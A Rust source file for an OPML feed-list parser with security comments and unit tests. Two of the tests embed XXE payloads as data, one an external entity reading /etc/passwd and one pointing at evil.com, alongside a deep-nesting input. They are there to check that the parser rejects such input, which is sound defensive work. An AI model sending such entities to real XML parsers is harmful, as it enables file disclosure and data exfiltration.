use quick_xml::events::{BytesStart, Event};
use quick_xml::Reader;
use thiserror::Error;

/// SEC-003: Maximum allowed nesting depth for OPML outline elements.
/// Prevents stack overflow attacks from maliciously crafted deeply nested OPMLs.
const MAX_OPML_DEPTH: usize = 50;

/// Errors that can occur during OPML parsing.
#[derive(Debug, Error)]
pub enum OpmlError {
    /// SEC-003: OPML nesting depth exceeds safety limit.
    #[error("OPML nesting depth exceeds maximum of {0} levels")]
    MaxDepthExceeded(usize),

    /// XML parsing failed.
    #[error("XML parse error: {0}")]
    XmlParse(String),

    /// Document bytes were not valid UTF-8.
    #[error("OPML document is not valid UTF-8: {0}")]
    Encoding(#[from] std::string::FromUtf8Error),
}

/// What an `<outline>` element stands for in the digest.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OutlineKind {
    /// `type="folder"`: a category label, never fetched.
    Folder,
    /// Any other outline: a feed source to fetch.
    Source,
}

/// A single `<outline>` element of the feed list.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OutlineNode {
    pub kind: OutlineKind,
    /// Display title. Sourced from `title`, falling back to `text`,
    /// then to the feed URL, then to the empty string.
    pub title: String,
    /// `xmlUrl` attribute. Always `None` for folders.
    pub feed_url: Option<String>,
}

impl OutlineNode {
    pub fn is_folder(&self) -> bool {
        self.kind == OutlineKind::Folder
    }
}

/// The feed list: every `<outline>` element in document order,
/// flattened regardless of nesting depth.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FeedListDocument {
    pub nodes: Vec<OutlineNode>,
}

impl FeedListDocument {
    /// Parses a raw OPML document, as fetched from storage.
    pub fn from_bytes(bytes: Vec<u8>) -> Result<Self, OpmlError> {
        let content = String::from_utf8(bytes)?;
        Self::parse(&content)
    }

    /// Parses OPML content and flattens its outlines in document order.
    ///
    /// Both nested and flat structures are handled; a parent outline is
    /// yielded before its children (pre-order), matching the order in which
    /// the start tags appear in the document.
    ///
    /// # Security
    ///
    /// XXE (XML External Entity) attacks are mitigated because `quick-xml` (0.37) does not
    /// parse `<!ENTITY>` declarations. Custom entities cause `EscapeError::UnrecognizedEntity`.
    pub fn parse(content: &str) -> Result<Self, OpmlError> {
        // SEC-002: quick-xml (0.37) never parses <!ENTITY> declarations from DOCTYPE.
        // Only the 5 XML builtins are resolved by `decode_and_unescape_value()`.
        let mut reader = Reader::from_str(content);
        reader.config_mut().trim_text(true);

        let mut nodes = Vec::new();
        let mut buf = Vec::new();
        // SEC-003: Track nesting depth to prevent stack overflow from malicious OPMLs
        let mut depth: usize = 0;

        loop {
            match reader.read_event_into(&mut buf) {
                Ok(Event::Start(e)) if e.name().as_ref() == b"outline" => {
                    depth += 1;
                    if depth > MAX_OPML_DEPTH {
                        return Err(OpmlError::MaxDepthExceeded(MAX_OPML_DEPTH));
                    }
                    nodes.push(parse_outline_attributes(&e, &reader)?);
                }
                Ok(Event::Empty(e)) if e.name().as_ref() == b"outline" => {
                    // Self-closing outline doesn't affect depth
                    nodes.push(parse_outline_attributes(&e, &reader)?);
                }
                Ok(Event::End(e)) if e.name().as_ref() == b"outline" => {
                    depth = depth.saturating_sub(1);
                }
                Ok(Event::Eof) => break,
                Err(e) => return Err(OpmlError::XmlParse(e.to_string())),
                _ => {}
            }
            buf.clear();
        }

        Ok(Self { nodes })
    }

    pub fn len(&self) -> usize {
        self.nodes.len()
    }

    pub fn is_empty(&self) -> bool {
        self.nodes.is_empty()
    }

    /// Number of outlines that will be fetched.
    pub fn source_count(&self) -> usize {
        self.nodes
            .iter()
            .filter(|n| !n.is_folder() && n.feed_url.is_some())
            .count()
    }
}

fn parse_outline_attributes(
    e: &BytesStart<'_>,
    reader: &Reader<&[u8]>,
) -> Result<OutlineNode, OpmlError> {
    let mut outline_type = None;
    let mut xml_url = None;
    let mut title = None;
    let mut text = None;

    for attr_result in e.attributes() {
        let attr = match attr_result {
            Ok(attr) => attr,
            Err(e) => {
                tracing::warn!(error = %e, "Skipping malformed OPML attribute");
                continue;
            }
        };
        let value = || {
            attr.decode_and_unescape_value(reader.decoder())
                .map(|v| v.into_owned())
                .map_err(|e| OpmlError::XmlParse(e.to_string()))
        };
        match attr.key.as_ref() {
            b"type" => outline_type = Some(value()?),
            b"xmlUrl" => xml_url = Some(value()?),
            b"title" => title = Some(value()?),
            b"text" => text = Some(value()?),
            _ => {}
        }
    }

    let kind = if outline_type.as_deref() == Some("folder") {
        OutlineKind::Folder
    } else {
        OutlineKind::Source
    };

    // A folder is a label only; an xmlUrl on it is ignored
    let feed_url = match kind {
        OutlineKind::Folder => None,
        OutlineKind::Source => xml_url.filter(|u| !u.trim().is_empty()),
    };

    let title = title
        .or(text)
        .or_else(|| feed_url.clone())
        .unwrap_or_default();

    Ok(OutlineNode {
        kind,
        title,
        feed_url,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_parse_nested_outline_document_order() {
        let content = r#"<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0">
  <head><title>Test Feeds</title></head>
  <body>
    <outline type="folder" title="Tech">
      <outline type="rss" title="BlogX" xmlUrl="https://x.example/rss"/>
      <outline type="folder" title="Rust">
        <outline type="rss" title="This Week" xmlUrl="https://twir.example/feed"/>
      </outline>
    </outline>
    <outline type="rss" title="Top Level" xmlUrl="https://top.example/atom"/>
  </body>
</opml>"#;

        let doc = FeedListDocument::parse(content).expect("Failed to parse nested OPML");
        let titles: Vec<&str> = doc.nodes.iter().map(|n| n.title.as_str()).collect();
        assert_eq!(titles, ["Tech", "BlogX", "Rust", "This Week", "Top Level"]);

        assert!(doc.nodes[0].is_folder());
        assert_eq!(doc.nodes[0].feed_url, None);
        assert_eq!(doc.nodes[1].kind, OutlineKind::Source);
        assert_eq!(doc.nodes[1].feed_url.as_deref(), Some("https://x.example/rss"));
        assert!(doc.nodes[2].is_folder());
        assert_eq!(doc.source_count(), 3);
    }

    #[test]
    fn test_fallback_to_text() {
        let content = r#"<?xml version="1.0"?>
<opml version="2.0">
  <body>
    <outline type="rss" text="Text Only" xmlUrl="https://textonly.com/feed"/>
  </body>
</opml>"#;

        let doc = FeedListDocument::parse(content).unwrap();
        assert_eq!(doc.len(), 1);
        assert_eq!(doc.nodes[0].title, "Text Only");
    }

    #[test]
    fn test_fallback_to_url() {
        let content = r#"<?xml version="1.0"?>
<opml version="2.0">
  <body>
    <outline type="rss" xmlUrl="https://notitle.com/feed"/>
  </body>
</opml>"#;

        let doc = FeedListDocument::parse(content).unwrap();
        assert_eq!(doc.nodes[0].title, "https://notitle.com/feed");
    }

    #[test]
    fn test_folder_ignores_xml_url() {
        let content = r#"<opml><body>
    <outline type="folder" title="News" xmlUrl="https://news.example/rss"/>
</body></opml>"#;

        let doc = FeedListDocument::parse(content).unwrap();
        assert!(doc.nodes[0].is_folder());
        assert_eq!(doc.nodes[0].feed_url, None);
        assert_eq!(doc.source_count(), 0);
    }

    #[test]
    fn test_untyped_outline_is_source() {
        let content = r#"<opml><body>
    <outline title="Untyped" xmlUrl="https://untyped.example/rss"/>
    <outline text="Grouping Only"/>
</body></opml>"#;

        let doc = FeedListDocument::parse(content).unwrap();
        assert_eq!(doc.nodes[0].kind, OutlineKind::Source);
        assert_eq!(doc.nodes[1].kind, OutlineKind::Source);
        assert_eq!(doc.nodes[1].feed_url, None);
        assert_eq!(doc.source_count(), 1);
    }

    #[test]
    fn test_localhost_urls_kept_as_declared() {
        let content = r#"<opml><body>
    <outline type="rss" title="Local" xmlUrl="http://127.0.0.1:8080/feed"/>
</body></opml>"#;

        let doc = FeedListDocument::parse(content).unwrap();
        assert_eq!(
            doc.nodes[0].feed_url.as_deref(),
            Some("http://127.0.0.1:8080/feed")
        );
    }

    #[test]
    fn test_escaped_attributes_unescaped() {
        let content = r#"<opml><body>
    <outline type="rss" title="Q&amp;A" xmlUrl="https://example.com/feed?a=1&amp;b=2"/>
</body></opml>"#;

        let doc = FeedListDocument::parse(content).unwrap();
        assert_eq!(doc.nodes[0].title, "Q&A");
        assert_eq!(
            doc.nodes[0].feed_url.as_deref(),
            Some("https://example.com/feed?a=1&b=2")
        );
    }

    #[test]
    fn test_empty_opml() {
        let content = r#"<?xml version="1.0"?>
    <opml version="2.0"><body></body></opml>"#;

        let doc = FeedListDocument::parse(content).unwrap();
        assert!(doc.is_empty());
    }

    #[test]
    fn test_malformed_xml_error() {
        let result = FeedListDocument::parse("<opml><body><outline></body>");
        assert!(result.is_err());
    }

    #[test]
    fn test_invalid_utf8_rejected() {
        let result = FeedListDocument::from_bytes(vec![0x3c, 0x6f, 0xff, 0xfe]);
        assert!(matches!(result, Err(OpmlError::Encoding(_))));
    }

    #[test]
    fn test_xxe_entity_not_expanded() {
        // SEC-002: This XXE payload should NOT expand to file contents.
        let malicious_opml = r#"<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<opml version="2.0">
    <body>
        <outline text="&xxe;" xmlUrl="https://example.com/feed.xml"/>
    </body>
</opml>"#;

        match FeedListDocument::parse(malicious_opml) {
            Ok(doc) => {
                for node in &doc.nodes {
                    assert!(
                        !node.title.contains("root:"),
                        "XXE expansion detected! Title contains passwd content"
                    );
                }
            }
            Err(_) => {
                // Rejection (UnrecognizedEntity error) is the expected behavior
            }
        }
    }

    #[test]
    fn test_xxe_entity_in_url_attribute() {
        let opml_entity_in_url = r#"<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY exfil SYSTEM "https://evil.com/steal">]>
<opml version="2.0">
    <body>
        <outline text="Legit Feed" xmlUrl="&exfil;"/>
    </body>
</opml>"#;

        match FeedListDocument::parse(opml_entity_in_url) {
            Ok(doc) => {
                for node in &doc.nodes {
                    assert!(
                        !node
                            .feed_url
                            .as_deref()
                            .unwrap_or_default()
                            .contains("evil.com"),
                        "Entity expanded in URL! Node: {:?}",
                        node
                    );
                }
            }
            Err(_) => {}
        }
    }

    #[test]
    fn test_deeply_nested_opml_rejected() {
        // SEC-003: 100 nested outlines exceeds MAX_OPML_DEPTH of 50
        let mut opml = String::from(r#"<?xml version="1.0"?><opml version="2.0"><body>"#);
        for _ in 0..100 {
            opml.push_str(r#"<outline type="folder" text="level">"#);
        }
        for _ in 0..100 {
            opml.push_str("</outline>");
        }
        opml.push_str("</body></opml>");

        let err = FeedListDocument::parse(&opml).unwrap_err();
        let err_msg = err.to_string();
        assert!(
            err_msg.contains("depth") && err_msg.contains("50"),
            "Error should mention depth limit: {}",
            err_msg
        );
    }

    #[test]
    fn test_nesting_at_depth_limit_allowed() {
        let mut opml = String::from(r#"<?xml version="1.0"?><opml version="2.0"><body>"#);
        for _ in 0..50 {
            opml.push_str(r#"<outline type="folder" text="level">"#);
        }
        opml.push_str(r#"<outline text="Deep Feed" xmlUrl="https://deep.example.com/feed"/>"#);
        for _ in 0..50 {
            opml.push_str("</outline>");
        }
        opml.push_str("</body></opml>");

        let doc = FeedListDocument::parse(&opml).expect("OPML at exactly max depth should parse");
        assert_eq!(doc.len(), 51);
        assert_eq!(doc.nodes[50].title, "Deep Feed");
        assert_eq!(doc.source_count(), 1);
    }
}
